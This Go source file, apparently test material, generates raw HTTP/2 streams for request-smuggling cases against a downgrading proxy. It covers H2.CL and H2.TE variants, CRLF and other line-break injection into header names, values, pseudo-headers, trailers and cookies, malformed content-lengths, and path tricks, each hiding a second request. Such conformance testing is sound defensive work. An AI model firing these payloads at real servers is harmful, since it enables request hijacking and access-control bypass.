package behaviour

import (
	"bytes"
	"fmt"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// downgrades returns connections of HTTP/2 whose messages hold another request for whoever writes them as
// HTTP/1.1 without a look: RFC 9113, section 10.3, and the attacks called H2.CL, H2.TE and header injection.
func downgrades() []odd {
	post := []string{":method", "POST", ":scheme", "http", ":authority", "cart-v1.shop", ":path", "/cart"}
	with := func(name, value string) []string {
		fields := append([]string(nil), post...)
		for i := 0; i < len(fields); i += 2 {
			if fields[i] == name {
				fields[i+1] = value
				return fields
			}
		}
		return append(fields, name, value)
	}
	chunks := "0\r\n\r\n" + hiddenRequest
	line := "\r\n\r\n" + hiddenRequest
	out := []odd{
		{"HTTP/2: chunks", streamOf(chunks, with("transfer-encoding", "chunked")...)},
		{"HTTP/2: chunks in capitals", streamOf(chunks, with("Transfer-Encoding", "chunked")...)},
		{"HTTP/2: chunks after a tab", streamOf(chunks, with("transfer-encoding", "\tchunked")...)},
		{"HTTP/2: chunks with an underscore", streamOf(chunks, with("transfer_encoding", "chunked")...)},
		{"HTTP/2: two lengths", streamOf(hiddenRequest, append(with("content-length", "0"), "content-length", fmt.Sprint(len(hiddenRequest)))...)},
		{"HTTP/2: a list of lengths", streamOf(hiddenRequest, with("content-length", fmt.Sprintf("0, %d", len(hiddenRequest)))...)},
		{"HTTP/2: a pseudo-header after others", streamOf("", append(with("x", "y"), ":path", "/hidden")...)},
		{"HTTP/2: two paths", streamOf("", append(append([]string(nil), post...), ":path", "/hidden")...)},
		{"HTTP/2: hop-by-hop headers", streamOf(hiddenRequest, append(with("connection", "content-length, upgrade"), "upgrade", "h2c", "content-length", fmt.Sprint(len(hiddenRequest)))...)},
	}
	for _, length := range []string{"0", "1", "+0", "-0", "00", " 0", "0x0", "4294967296", "18446744073709551616", ""} {
		out = append(out, odd{"HTTP/2: the length " + length, streamOf(hiddenRequest, with("content-length", length)...)})
	}
	for _, cut := range []string{"\r\n", "\n", "\r", "\x00\r\n", "\u010d\u010a"} {
		inject := strings.ReplaceAll(line, "\r\n", cut)
		out = append(out,
			odd{fmt.Sprintf("HTTP/2: %q in a value", cut), streamOf("", with("x-a", "b"+inject)...)},
			odd{fmt.Sprintf("HTTP/2: %q in a name", cut), streamOf("", with("x-a: b"+inject+"x", "c")...)},
			odd{fmt.Sprintf("HTTP/2: %q in the path", cut), streamOf("", with(":path", "/cart HTTP/1.1"+cut+"Host: cart-v1.shop"+inject)...)},
			odd{fmt.Sprintf("HTTP/2: %q in the method", cut), streamOf("", with(":method", "GET /hidden HTTP/1.1"+cut+"Host: cart-v1.shop"+cut+cut+"POST")...)},
			odd{fmt.Sprintf("HTTP/2: %q in the authority", cut), streamOf("", with(":authority", "cart-v1.shop"+inject)...)},
			odd{fmt.Sprintf("HTTP/2: %q in the scheme", cut), streamOf("", with(":scheme", "http://cart-v1.shop/hidden HTTP/1.1"+cut+"x: ")...)},
			odd{fmt.Sprintf("HTTP/2: %q in a trailer", cut), streamWithTrailer("a", "x-a", "b"+inject)},
			odd{fmt.Sprintf("HTTP/2: %q in a cookie", cut), streamOf("", with("cookie", "a=b"+inject)...)},
		)
	}
	for _, path := range []string{"/hidden /cart", "/cart /hidden", "http://cart-v1.shop/hidden", "//hidden", "cart", "*", "", "/cart\t/hidden", "/cart/../hidden", "/cart#/../hidden"} {
		out = append(out, odd{"HTTP/2: the path " + path, streamOf("", with(":path", path)...)})
	}
	return out
}

// streamOf returns a connection with one request.
func streamOf(body string, fields ...string) string {
	return streamOfFrames(func(f *http2.Framer) {
		_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block(fields...), EndHeaders: true, EndStream: body == ""})
		if body != "" {
			_ = f.WriteData(1, true, []byte(body))
		}
	})
}

func streamWithTrailer(body, name, value string) string {
	return streamOfFrames(func(f *http2.Framer) {
		_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block(":method", "POST", ":scheme", "http", ":authority", "cart-v1.shop", ":path", "/cart", "te", "trailers"), EndHeaders: true})
		_ = f.WriteData(1, false, []byte(body))
		_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block(name, value), EndHeaders: true, EndStream: true})
	})
}

// streamOfFrames returns a connection that begins as HTTP/2 does. Writing to a buffer does not fail.
func streamOfFrames(write func(*http2.Framer)) string {
	var b bytes.Buffer
	b.WriteString(http2.ClientPreface)
	f := http2.NewFramer(&b, nil)
	f.AllowIllegalWrites = true
	_ = f.WriteSettings()
	write(f)
	return b.String()
}

// block encodes fields, given as names and values.
func block(fields ...string) []byte {
	var b bytes.Buffer
	encoder := hpack.NewEncoder(&b)
	for i := 0; i < len(fields); i += 2 {
		_ = encoder.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]})
	}
	return b.Bytes()
}
